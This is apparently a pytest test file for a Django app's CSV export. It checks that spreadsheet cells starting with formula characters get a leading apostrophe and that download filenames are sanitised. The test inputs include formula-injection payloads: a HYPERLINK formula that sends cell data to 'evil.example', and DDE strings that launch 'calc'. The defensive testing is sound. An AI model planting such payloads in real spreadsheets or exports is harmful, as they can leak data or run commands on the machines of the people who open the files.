import csv
import datetime as dt
import io

import pytest
from django.urls import reverse

from signals.exports import csv_response, csv_safe, csv_text

from .factories import SignalFactory


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-1+1",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "＝1+1",
    ],
)
def test_formula_cells_get_a_leading_apostrophe(value):
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Aannemer komt afspraken niet na", "2026-03", "a=b", "mail@example.nl", ""])
def test_ordinary_text_is_left_alone(value):
    assert csv_safe(value) == value


def test_numbers_dates_and_empty_cells():
    assert csv_safe(-5) == -5
    assert csv_safe(3.5) == 3.5
    assert csv_safe(None) == ""
    assert csv_safe(True) == "ja"
    assert csv_safe(dt.date(2026, 3, 1)) == "2026-03-01"
    assert csv_safe(dt.datetime(2026, 3, 1, 9, 30, tzinfo=dt.UTC)) == "2026-03-01 10:30"  # Amsterdam


def test_written_csv_keeps_the_apostrophe_inside_quoted_cells():
    text = csv_text([["=HYPERLINK(\"x\";\"y\")", "ok"]])
    assert list(csv.reader(io.StringIO(text), delimiter=";")) == [["'=HYPERLINK(\"x\";\"y\")", "ok"]]


def test_download_name_is_sanitised():
    response = csv_response([["a"]], filename='x"; evil=.csv')
    assert response["Content-Disposition"] == 'attachment; filename="xevil.csv"'


@pytest.mark.django_db
def test_report_export_neutralises_a_malicious_signal_title(login, teamlead, belastingen):
    from django.utils import timezone

    SignalFactory(department=belastingen, title='=HYPERLINK("http://evil.example","klik")', raised_at=timezone.now())
    SignalFactory(department=belastingen, title="@SUM(A1:A9)", raised_at=timezone.now())
    SignalFactory(department=belastingen, title="+cmd", raised_at=timezone.now())
    month = timezone.localdate().strftime("%Y-%m")
    response = login(teamlead).get(reverse("signals:report_csv"), {"department": belastingen.pk, "month": month})
    rows = list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff")), delimiter=";"))
    titles = {r[1] for r in rows if len(r) > 1 and r[0].isdigit()}
    assert titles == {"'=HYPERLINK(\"http://evil.example\",\"klik\")", "'@SUM(A1:A9)", "'+cmd"}
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
